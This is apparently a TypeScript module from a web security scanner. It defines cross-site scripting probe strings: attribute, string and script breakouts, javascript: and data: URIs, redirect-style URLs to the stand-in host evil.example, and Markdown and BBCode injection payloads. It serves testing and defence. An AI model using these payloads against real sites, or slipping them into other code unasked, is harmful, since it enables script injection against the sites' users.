import type { Attack } from '../input/derive-payloads.ts';
import { harmlessWord } from '../input/sample.ts';

/**
 * Short and without spaces, so that a check of one part of the value lets them through. Each changes a page wherever it is
 * written. They are probes; the payloads of the corpus are attacks.
 */
export const xssAttack: Attack = {
  hides: true,
  fragments: [
    { name: 'closes an attribute and a tag', text: `"'><svg/onload=alert(1)>` },
    { name: 'closes an attribute', text: '"onmouseover="alert(1)' },
    { name: 'closes an attribute in single quotes', text: `'onmouseover='alert(1)` },
    { name: 'adds an element', text: '<img/src/onerror=alert(1)>' },
    { name: 'leaves an unquoted attribute', text: ' onmouseover=alert(1) x=' },
    { name: 'closes an argument', text: ');alert(1);(' },
    { name: 'adds a line of code', text: ';alert(1)//' },
    { name: 'adds an operand', text: '-alert(1)-' },
    { name: 'closes a string', text: `";alert(1)//` },
    { name: 'closes a string in single quotes', text: `';alert(1)//` },
    { name: 'closes the script', text: '</script><svg/onload=alert(1)>' },
    {
      name: 'closes a title, a textarea or a style',
      text: '--></title></textarea></style><svg/onload=alert(1)>',
    },
    { name: 'escapes the closing quote', text: `\\";alert(1)//` },
  ],
  overlays: [
    { name: 'closes an attribute', text: '"onblur="a()' },
    { name: 'adds an element', text: '<b onclick=a' },
    { name: 'adds an element, in three characters', text: '<b>' },
    { name: 'closes an attribute, in four characters', text: '"x="' },
    { name: 'closes an attribute in single quotes, in four characters', text: `'x='` },
  ],
  whole: [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    `"'><svg/onload=alert(1)>`,
    'javascript:alert(1)',
    '" onmouseover="alert(1)',
    `';alert(1)//`,
    '</script><img src=x onerror=alert(1)>',
    'https://evil.example/bulwark.js',
  ],
  addresses: ({ href, protocol, host, pathname }) => [
    `https://evil.example/?${href}`,
    `https://evil.example/#${href}`,
    `https://evil.example/${host}/`,
    `${protocol}//${host}.evil.example${pathname}`,
    `${protocol}//${host}@evil.example${pathname}`,
    `//evil.example/${href}`,
    `javascript:alert(1)//${href}`,
    `java\tscript:alert(1)//${href}`,
    `data:text/html,<script>alert(1)</script>${href}`,
    `data:text/javascript,alert(1)//${href}`,
  ],
};

const w = harmlessWord;

/** What Markdown and BBCode turn into elements: where a page does so, a payload may do so too. */
export const lightMarkupSamples: readonly string[] = [
  `**${w}** and *${w}* and __${w}__ and ~~${w}~~ and \`${w}\``,
  `[${w}](https://${w}.example/a)`,
  `![${w}](https://${w}.example/a.png)`,
  `# ${w}\n\n- ${w}\n- b\n\n1. ${w}\n\n> ${w}\n\n---\n\n    ${w}\n\n\`\`\`js\n${w}\n\`\`\``,
  `[b]${w}[/b] [i]${w}[/i] [color=red]${w}[/color] [size=3]${w}[/size] [quote]${w}[/quote] [code]${w}[/code]`,
  `[url=https://${w}.example/]${w}[/url] [url]https://${w}.example/[/url]`,
  `[img]https://${w}.example/a.png[/img]`,
  `see @${w} and #${w}`,
];

/** Attacks on renderers of Markdown and BBCode, and on code that links URLs, mentions and hashtags. Sources: advisories of marked, markdown-it and bbcode parsers. */
export const lightMarkupPayloads: readonly string[] = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](javajavascript:script:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:alert(1))',
  '[a](https://x"onmouseover="alert(1))',
  `[a](https://x'onmouseover='alert(1))`,
  '[a](https://x "t"onmouseover="alert(1)")',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![a](x"onerror="alert(1))',
  '![a"onerror="alert(1)](x)',
  '![<img src=x onerror=alert(1)>](x)',
  '```"onmouseover="alert(1)\na\n```',
  '`<img src=x onerror=alert(1)>`',
  '    <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '[url=javascript:alert(1)]a[/url]',
  '[url]javascript:alert(1)[/url]',
  '[url=https://x"onmouseover="alert(1)]a[/url]',
  `[url=https://x'onmouseover='alert(1)]a[/url]`,
  '[img]x"onerror="alert(1)[/img]',
  `[img]x'onerror='alert(1)[/img]`,
  '[img]javascript:alert(1)[/img]',
  '[color=red"onmouseover="alert(1)]a[/color]',
  `[color=red'onmouseover='alert(1)]a[/color]`,
  '[size=3"onmouseover="alert(1)]a[/size]',
  '[quote=ann"onmouseover="alert(1)]a[/quote]',
  '[b]<img src=x onerror=alert(1)>[/b]',
  'see https://x.example/"onmouseover="alert(1)',
  `see https://x.example/'onmouseover='alert(1)`,
  'see https://x.example/<svg/onload=alert(1)>',
  'see @ann"onmouseover="alert(1)',
  `see @ann'onmouseover='alert(1)`,
  'see #a"onmouseover="alert(1)',
  `see #a'onmouseover='alert(1)`,
];
